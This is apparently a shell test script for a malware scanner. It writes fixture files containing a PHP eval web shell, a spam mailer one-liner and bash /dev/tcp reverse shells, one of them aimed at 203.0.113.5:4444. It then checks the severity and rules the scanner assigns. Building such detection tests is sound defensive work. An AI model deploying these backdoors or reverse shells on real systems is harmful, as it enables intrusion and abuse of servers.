#!/usr/bin/env bash
# Prose that quotes backdoors is not code. A Markdown incident note with a
# PHP code fence, a one-line mailer and a /dev/tcp reverse shell in it gets
# at most a medium "recipe in a document" finding; none of the rules for
# running code fires on it. The same text in a file that *starts* with the
# PHP tag is code, whatever its extension, and is found as such.
. "$(dirname "$0")/../lib.sh"
d=$(mktemp_dir)
cat >"$d/incident-notes.md" <<'MD'
# Incident notes: cleaning a hacked site

We found these typical backdoors. Search for them and remove them:

```php
<?php @eval($_POST['x']); ?>
```

A one-line mailer looked like this:

```php
foreach (file($_FILES['l']['tmp_name']) as $t) mail($t, $_POST['s'], $_POST['m']);
```

Reverse shells: `bash -i >& /dev/tcp/HOST/PORT 0>&1`.
MD
printf '<?php\nsystem("bash -c \\"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\\"");\n' >"$d/notes.md"
hs --format json scan "$d"
sev() { jq_py "$OUT" "[f['severity'] for f in F if f['path'].endswith('/$1')]"; }
rules() { jq_py "$OUT" "sorted(r for f in F if f['path'].endswith('/$1') for r in f['rules'])"; }
got=$(sev incident-notes.md)
check "quoted backdoors in Markdown: at most medium (got $got)" \
	python3 -c "import sys; sys.exit(not all(s in ('low', 'medium') for s in $got))"
got=$(rules incident-notes.md)
check "quoted backdoors in Markdown: no code rule fires (got $got)" \
	python3 -c "import sys; r = $got; sys.exit(not all(x.endswith('recipe_in_doc') for x in r))"
got=$(sev notes.md)
check "a .md that starts with the PHP tag is code: critical (got $got)" test "$got" = "['critical']"

# The content memo is by bytes alone: the same text as a .php (where PHP
# runs whatever comes before the tag) still gets the PHP patterns after
# the Markdown copy was scanned first.
m=$(mktemp_dir)
cp "$d/incident-notes.md" "$m/a-notes.md"
cp "$d/incident-notes.md" "$m/z-notes.php"
hs --format json --threads 1 scan "$m"
got=$(jq_py "$OUT" "sorted(r for f in F if f['path'].endswith('/z-notes.php') for r in f['rules'])")
check "the same bytes as a .php: the PHP patterns run (got $got)" \
	python3 -c "import sys; sys.exit('pcre.mailer_inline_list_loop_mail' not in $got)"
got=$(jq_py "$OUT" "sorted(r for f in F if f['path'].endswith('/a-notes.md') for r in f['rules'])")
check "... and the .md copy stays a document (got $got)" \
	python3 -c "import sys; r = $got; sys.exit(not all(x.endswith('recipe_in_doc') for x in r))"
